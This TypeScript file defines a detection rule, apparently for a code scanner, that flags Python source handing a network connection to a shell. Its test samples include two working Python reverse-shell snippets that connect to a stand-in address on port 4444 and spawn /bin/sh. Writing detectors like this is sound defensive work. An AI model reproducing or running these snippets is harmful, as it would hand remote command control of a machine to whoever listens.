// The rule for source that connects out and hands the connection to a shell.

import { defineRule } from '../../define-rule.ts';

export const opensReverseShell = defineRule({
  id: 'python/opens-reverse-shell',
  title: 'Source hands a network connection to a shell',
  category: 'code-execution',
  severity: 'critical',
  stability: 'stable',
  since: '0.1',
  cwe: [506],
  owasp: ['ML06:2023', 'LLM03:2025', 'LLM04:2026'],
  atlas: ['AML.T0011.000', 'AML.T0072'],
  tags: ['source', 'network', 'code-execution'],
  message: '`{call}` in {where} hands a connection to a shell: {effect}',
  why: 'Whoever listens at the other end types commands into this machine.',
  fix: ['Do not run this file', 'Where it was run, treat the machine as taken'],
  falsePositives: 'None known: terminal servers listen and do not connect out.',
  samples: {
    fires: [
      "python: import socket, os, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
      "python: import socket, pty, os\ndef f():\n    s = socket.create_connection(('192.0.2.1', 4444))\n    for fd in (0, 1, 2): os.dup2(s.fileno(), fd)\n    pty.spawn('/bin/sh')",
    ],
    silent: [
      "python: import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 80))\ns.send(b'x')",
      'python: import os\nos.dup2(log.fileno(), 1)',
    ],
  },
});
